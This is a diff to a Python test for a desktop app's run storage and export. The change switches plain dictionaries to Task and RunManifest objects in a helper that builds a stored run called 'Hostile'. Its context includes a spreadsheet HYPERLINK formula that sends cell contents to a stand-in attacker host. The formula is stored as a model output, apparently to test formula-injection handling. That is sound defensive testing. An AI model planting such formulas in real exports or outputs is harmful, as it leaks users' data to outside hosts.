@@ -22,7 +22,9 @@ FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1, "Click")'
 def _stored_run(home: Path, tmp_path: Path) -> Path:
     """A run stored the way the runner stores one, exported as an archive; returns the archive."""
     from desktop_app.core.runs import exchange
+    from desktop_app.core.runs.manifest import RunManifest
     from desktop_app.core.runs.storage import RowResult, RunStore
+    from desktop_app.core.runs.tasks import Task
 
     dataset = tmp_path / "data.csv"
     dataset.write_text("id,text\na1,hello\na2,+1 555\n", encoding="utf-8")
@@ -30,7 +32,8 @@ def _stored_run(home: Path, tmp_path: Path) -> Path:
     try:
         run_id = store.create(
             "Hostile", 2, "text", str(dataset), hashlib.sha256(dataset.read_bytes()).hexdigest(), "model.gguf", None,
-            {"prompt": "Say: {text}", "kind": "text"}, {"format": "hearth-run", "version": 1}, status="done",
+            Task.from_dict({"prompt": "Say: {text}", "kind": "text"}),
+            RunManifest.from_dict({"format": "hearth-run", "version": 1}), status="done",
         )  # fmt: skip
         rows = [
             RowResult(0, "a1", {"text": "hello"}, "Say: hello", FORMULA, None, True, None, None),
